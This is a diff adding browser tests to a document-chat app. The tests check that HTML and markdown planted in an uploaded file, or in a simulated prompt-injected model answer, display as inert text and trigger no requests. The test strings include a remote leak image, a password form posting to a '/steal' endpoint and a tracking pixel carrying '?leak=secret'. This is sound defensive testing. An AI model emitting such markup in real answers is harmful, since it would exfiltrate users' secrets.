@@ -258,6 +258,31 @@ def test_uploaded_document_is_cited_and_deleting_it_removes_it(page: Any, tmp_pa
     shot(page, "11-after-delete")
 
 
+def test_markup_planted_in_a_document_is_shown_as_text(page: Any, tmp_path: Path) -> None:
+    """S10: a document's HTML (a password form, a remote image) quoted in an answer renders as text; the
+    page's Content-Security-Policy would block a remote image anyway."""
+    doc = tmp_path / "quillon_pact.txt"
+    doc.write_text(
+        "The Quillon pact was signed in Dravik in 2033 <img src='http://198.51.100.7/leak.png'> "
+        "<form action='http://198.51.100.7/steal'><input type='password' name='pw'></form> by nine states.\n",
+        encoding="utf-8",
+    )
+    requests: list[str] = []
+    page.on("request", lambda r: requests.append(r.url) if "198.51.100.7" in r.url else None)
+    report = upload(page, doc)
+    assert "quillon_pact.txt added" in report, report
+    go_to(page, "Chat")
+    answer = ask(page, "Where was the Quillon pact signed?")
+    assert "Dravik" in answer and "<form action=" in answer, answer
+    chat = page.locator("#chatbot")
+    expect(chat.locator("form, input[type=password]")).to_have_count(0)
+    expect(chat.locator("img[src*='198.51.100.7']")).to_have_count(0)
+    assert requests == [], requests
+    csp = page.evaluate("async () => (await fetch('/')).headers.get('content-security-policy')")
+    assert "img-src 'self' data:" in csp and "form-action 'self'" in csp
+    shot(page, "12-planted-markup-as-text")
+
+
 def test_bad_and_unreadable_files_get_a_friendly_error_and_the_session_goes_on(
     page: Any, tmp_path: Path
 ) -> None:
@@ -348,6 +373,42 @@ def test_phone_width_chat_is_usable(browser: Any, server: Server) -> None:
     assert not errors, f"JavaScript errors on the page: {errors}"
 
 
+# -- with API keys: a person signs in -------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def keyed_server(seeded_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    with serving_copy(seeded_dir, tmp_path_factory.mktemp("keyed-ui"), RAG_API_KEYS="ui-key-1") as srv:
+        yield srv
+
+
+def test_a_person_signs_in_with_a_key_and_the_ui_works(browser: Any, keyed_server: Server) -> None:
+    ctx = browser.new_context(viewport={"width": 1280, "height": 900})
+    page = ctx.new_page()
+    page.set_default_timeout(WAIT_MS)
+    errors: list[str] = []
+    page.on("pageerror", lambda exc: errors.append(str(exc)))
+    try:
+        page.goto(keyed_server.url)
+        assert "/login" in page.url
+        page.locator("#key").fill("not-the-key")
+        page.locator("#sign-in").click()
+        expect(page.get_by_role("alert")).to_contain_text("not valid")
+        page.locator("#key").fill("ui-key-1")
+        shot(page, "22-sign-in")
+        page.locator("#sign-in").click()
+        expect(page.locator("#question textarea")).to_be_visible()
+        cookie = next(c for c in ctx.cookies() if c["name"] == "assistant_session")
+        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
+        answer = ask(page, MINE_ACTION)
+        assert "Cambodia" in answer and MARKER.search(answer), answer
+        go_to(page, "Documents")
+        expect(page.locator("#documents-table")).to_contain_text("000_78f4c420c5d86458.txt")
+    finally:
+        ctx.close()
+    assert not errors, f"JavaScript errors on the page: {errors}"
+
+
 # -- a generative model: streaming, Stop, and the model server going down ----------------------------------
 
 
@@ -359,6 +420,8 @@ class FakeModel:
         self.url = f"http://127.0.0.1:{self.port}/v1"
         self.delay = 0.05
         self.repeat = 1
+        self.extra = ""  # appended to the answer: what a prompt-injected model might write
+        self.fetched: list[str] = []  # GET requests: an image in an answer that the browser fetched
         self.stopped = threading.Event()
         self._server: ThreadingHTTPServer | None = None
 
@@ -368,7 +431,8 @@ class FakeModel:
         n = next((m.group(1) for m in passages if "Cambodia" in m.group(2)), None)
         if n is None:
             return "The documents do not contain an answer to this question."
-        return " ".join([f"Russia jointly chairs the Mine Action Centre with Cambodia [{n}]."] * self.repeat)
+        text = " ".join([f"Russia jointly chairs the Mine Action Centre with Cambodia [{n}]."] * self.repeat)
+        return text + self.extra.replace("{n}", n)
 
     def start(self) -> None:
         model = self
@@ -376,6 +440,11 @@ class FakeModel:
         class Handler(BaseHTTPRequestHandler):
             def log_message(self, *args: Any) -> None:
                 pass
+
+            def do_GET(self) -> None:
+                model.fetched.append(self.path)
+                self.send_response(404)
+                self.end_headers()
 
             def do_POST(self) -> None:
                 body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
@@ -491,6 +560,40 @@ def test_generated_answer_streams_and_stop_ends_it(
         assert stopped_at.count("Mine Action Centre") < 12
         shot(page, "20-stopped")
     finally:
+        ctx.close()
+    assert not errors, f"JavaScript errors on the page: {errors}"
+
+
+def test_an_injected_answer_shows_its_markup_as_text_fetches_nothing_and_is_marked(
+    browser: Any, generative_server: Server, fake_model: FakeModel
+) -> None:
+    """S9/S10: a model answer carrying a remote image, a link and a password form (as a prompt-injected
+    document would ask for) is shown as text; nothing is fetched; the unsupported sentence is marked."""
+    pixel = f"http://127.0.0.1:{fake_model.port}/pixel.png?leak=secret"
+    fake_model.delay, fake_model.repeat = 0.0, 1
+    fake_model.extra = (
+        f" The centre moved to Mars in 1850 ![pixel]({pixel}) [link](http://127.0.0.1:{fake_model.port}/x) "
+        f"<img src='{pixel}'> <form action='http://127.0.0.1:{fake_model.port}/steal'>"
+        "<input type='password' name='pw'></form> [{n}]."
+    )
+    fake_model.fetched.clear()
+    ctx, page, errors = open_page(browser, generative_server.url)
+    try:
+        answer = ask(page, MINE_ACTION)
+        bot = bots(page).first
+        assert "![pixel](" in answer and "<form action=" in answer, answer  # shown as text
+        expect(bot.locator("img")).to_have_count(0)
+        expect(bot.locator("form, input")).to_have_count(0)
+        expect(bot.locator("a:not(.cite)")).to_have_count(0)
+        expect(bot.locator("a.cite").first).to_be_visible()  # the [n] markers still link to their sources
+        expect(bot).to_contain_text("Not supported by the passages it cites")
+        expect(bot.locator(".unsupported-note")).to_be_visible()
+        assert "moved to Mars" in answer.split("Not supported by the passages it cites")[1]
+        shot(page, "21-injected-answer-as-text")
+        page.wait_for_timeout(1000)
+        assert fake_model.fetched == [], f"the browser fetched {fake_model.fetched}"
+    finally:
+        fake_model.extra = ""
         ctx.close()
     assert not errors, f"JavaScript errors on the page: {errors}"
 
